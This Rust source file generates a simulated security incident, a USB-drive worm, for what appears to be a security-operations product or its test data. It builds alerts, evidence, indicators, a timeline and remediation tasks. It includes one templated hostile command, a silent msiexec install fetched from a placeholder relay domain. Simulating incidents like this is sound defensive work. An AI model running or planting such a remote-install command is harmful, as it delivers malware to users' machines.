//! Malware that came on a USB drive: a shortcut, a script host, a download through a relay.

use super::{Alert, Indicator, Product, Scene, Story, Task, evidence, part};
use crate::store::tasks::Outcome;

pub fn story(scene: &mut Scene) -> Story {
    let user = scene.user();
    let laptop = scene.machine_of(user);
    let relay = scene.address();
    let domain = scene.domain();
    let shortcut = scene.file("KINGSTON (16GB).lnk", "E:\\");
    let number = scene.number(100, 999);
    let library = scene.file(&format!("qvt{number}.dll"), "C:\\ProgramData\\Wct");
    let installer = scene.file("msiexec.exe", "C:\\Windows\\System32");
    let command = format!("msiexec /q /i http://{domain}:8080/{}", &library.sha1[..12]);
    let name = format!("Worm from a USB drive on {}", laptop.name);
    let alerts = vec![
        Alert {
            title: "Suspicious shortcut started from removable media".into(),
            description: "A shortcut named like the drive itself started the command interpreter."
                .into(),
            category: "InitialAccess",
            techniques: &["T1091", "T1204.002"],
            product: Product::Endpoint,
            severity: "medium",
            minute: 0,
            evidence: vec![
                evidence::device(laptop, "suspicious", "compromised"),
                evidence::file(&shortcut, laptop, "malicious"),
                evidence::user(user, "suspicious", "compromised"),
            ],
        },
        Alert {
            title: "Suspicious use of the Windows installer".into(),
            description: "The installer service fetched a package from the internet without a \
                    window."
                .into(),
            category: "Execution",
            techniques: &["T1218.007", "T1105"],
            product: Product::Endpoint,
            severity: "medium",
            minute: 1,
            evidence: vec![
                evidence::device(laptop, "suspicious", "compromised"),
                evidence::process(&installer, &command, laptop, user, "suspicious"),
                evidence::url(&format!("http://{domain}:8080/"), "malicious"),
                evidence::ip(&relay, "malicious", "commandAndControl"),
            ],
        },
        Alert {
            title: "Malware was detected in a library".into(),
            description: "A library downloaded a minute ago was recognized when it was loaded."
                .into(),
            category: "Malware",
            techniques: &["T1574.002"],
            product: Product::Antivirus,
            severity: "low",
            minute: 3,
            evidence: vec![
                evidence::device(laptop, "suspicious", "compromised"),
                evidence::file(&library, laptop, "malicious"),
            ],
        },
    ];
    let summary = format!(
        "## What happened\n\n\
         **{user}** plugged in a USB drive and opened what looked like the drive. It was the \
         shortcut `{lnk}`, which ran\n\n\
         ```\n{command}\n```\n\n\
         The package came from a network storage device that had itself been taken over (`{ip}`). \
         Antivirus stopped the library `{dll}` when it was loaded; a scheduled task that would \
         have fetched it again was left behind.\n\n\
         ## Impact\n\n\
         The worm's second stage did **not** run. Its operators are known to sell access to \
         others, so a delay of days between the USB drive and an attack is normal: the device \
         must not be considered clean because nothing more was seen.\n\n\
         ## What we did\n\n\
         - We removed the scheduled task and blocked the domain.\n\
         - We looked for the shortcut on all devices. It was opened on this one only.\n\n\
         ## What you need to do\n\n\
         Run the full scan, quarantine the library's remaining copy, and **find the drive**: it \
         will infect the next device it is plugged into. Ask where it had been before, print \
         shops are a common source.",
        user = user.name,
        lnk = shortcut.name,
        ip = relay.ip,
        dll = library.name,
    );
    Story {
        name,
        severity: scene.pick(&["medium", "low"]),
        description: format!(
            "A worm on a USB drive started on {} and was stopped before its second stage.",
            laptop.name
        ),
        classification: "truePositive",
        determination: "malware",
        alerts,
        summary,
        devices: vec![part(laptop, "USB drive opened here")],
        indicators: vec![
            Indicator::new("sha256", library.sha256.clone(), "Worm's library"),
            Indicator::new("domain", domain, "Download address"),
            Indicator::new("ip", relay.ip.clone(), "Relay"),
        ],
        timeline: vec![
            (
                0,
                "Shortcut on the drive opened".into(),
                Some(laptop.name.clone()),
            ),
            (
                1,
                "Package fetched by the installer".into(),
                Some(laptop.name.clone()),
            ),
            (
                3,
                "Library stopped by the antivirus".into(),
                Some(laptop.name.clone()),
            ),
        ],
        tasks: vec![
            Task::did(
                "text",
                "Remove the scheduled task",
                "The task was deleted and its definition kept for the investigation.",
            ),
            Task::ask_for(
                "runAntiVirusScan",
                format!("Run antivirus scan on {}", laptop.name),
                "A full scan takes two to four hours; the device can be used meanwhile.",
            )
            .on(laptop)
            .ends(Outcome::Partial(
                "The scan ended early: the device went to sleep at 71 %.".into(),
            )),
            Task::ask_for(
                "stopAndQuarantineFile",
                format!("Quarantine file {}", library.name),
                "One copy is left in the installer's cache.",
            )
            .file(&library, laptop),
            Task::ask(
                "Find the USB drive and take it out of use",
                "Ask the user for the drive and where it was used before. Do not open it on \
                    another device.",
            ),
        ],
        closing: format!("{} is clean and the drive was destroyed.", laptop.name),
        tags: &[],
    }
}
